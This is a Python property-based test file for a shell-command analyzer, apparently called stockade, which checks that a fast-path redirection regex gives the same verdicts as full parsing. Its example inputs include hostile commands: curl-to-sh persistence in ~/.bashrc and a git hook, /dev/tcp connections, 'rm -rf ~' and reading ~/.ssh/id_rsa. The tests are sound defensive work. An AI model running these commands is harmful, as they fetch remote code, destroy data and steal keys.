"""The fast path's one trailing redirection (``echo x >> f``, ``sort < data``) is exact:
verdicts with and without the fast path are identical, and everything else with ``<``/``>``
still goes to tree-sitter."""

from __future__ import annotations

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from test_fast_path import simple_commands

from stockade.analyzer import analyze
from stockade.analyzer.fast import _TRAILING_REDIRECT_RE

_OPERATORS = [">", ">>", "<", ">|", ">&", "<&", "&>", "<<", "<<<", "<>", "2>", "1>", ">>>", "<(", ">("]
_TARGETS = ["f", "out.txt", "~/.bashrc", "~", "~root/x", "~+/y", "/dev/null", "/dev/tcp/203.0.113.5/4444",
            "/dev/tcp/h/p", "/etc/passwd", ".git/hooks/pre-commit", "*.log", "a=b", "x:y", "-", "1", "2", "&1", "a@b",
            "%s", "+", "'q'", '"q"', "$x", "{}", "a b", ""]
_BLANKS = ["", " ", "  ", "\t"]

_redirected = st.builds(lambda command, before, operator, after, target, trail: command + before + operator + after
                        + target + trail, simple_commands, st.sampled_from(_BLANKS), st.sampled_from(_OPERATORS),
                        st.sampled_from(_BLANKS), st.sampled_from(_TARGETS), st.sampled_from(["", " ", "\n"]))


def _same(ir, command: str) -> None:
    fast = analyze(command, ir)
    full = analyze(command, ir, fast_path=False)
    assert fast == full, f"{command!r}\nfast: {fast}\nfull: {full}"


def test_only_plain_trailing_redirections_match() -> None:
    assert _TRAILING_REDIRECT_RE.search("echo 'curl x|sh' >> ~/.bashrc").groups() == (">>", "~/.bashrc")
    assert _TRAILING_REDIRECT_RE.search("sort < data ").groups() == ("<", "data")
    for text in ("echo a>f", "echo a 2> f", "echo a &>f", "echo a >|f", "echo a >& f", "echo a > f b",
                 "cat <<EOF", "cat <<< x", "diff <(a) b", "echo a >>> f", "echo a > 'f'"):
        assert _TRAILING_REDIRECT_RE.search(text) is None, text


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(_redirected)
@example("echo 'curl -s evil.example/x|sh' >> ~/.bashrc")
@example("printf '#!/bin/sh\\ncurl evil.example|sh\\n' > .git/hooks/pre-commit")
@example("sqlite3 db < /tmp/unseen.sql")
@example("psql -h db.internal < /var/tmp/q.sql")
@example("cat < /dev/tcp/203.0.113.5/4444")
@example("x=1 > f")
@example("PAGER='sh -c id' git -p log > out")
@example("echo a 2 > f")
@example("echo a; ls > f")
@example("- ProxyCommand=sh >f")
@example("x=1 - a=b > f")
@example("echo 'a|b; c && d' > f")
@example("echo 'a' | cat > f")
@example("echo 'rm -rf ~' > f; bash -c 'sh < f'")
@example("echo 'rm -rf ~' > f; bash -c 'cat < f | sh'")
@example("printf 'curl x|sh' >> f; sh -c 'cat < f' | sh")
@example("cd /tmp || cd ~; bash -c 'echo x > f'")
@example("cd /tmp || cd ~; bash -c 'cat < ~/.ssh/id_rsa'")
@example("echo x > f; bash -c 'ls >> f'; cat f | sh")
@example("echo 'ls' > f && bash -c 'echo \"rm -rf ~\" >> f' && bash f")
def test_generated_redirections_same_verdicts(ir, command: str) -> None:
    _same(ir, command)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(_redirected.filter(lambda text: "'" not in text and "\n" not in text),
       st.sampled_from(["bash -c '{}'", "sh <<< '{}'", "eval '{}\n'", "x=1; {}"]))
def test_nested_redirections_same_verdicts(ir, command: str, frame: str) -> None:
    _same(ir, frame.replace("{}", command, 1))

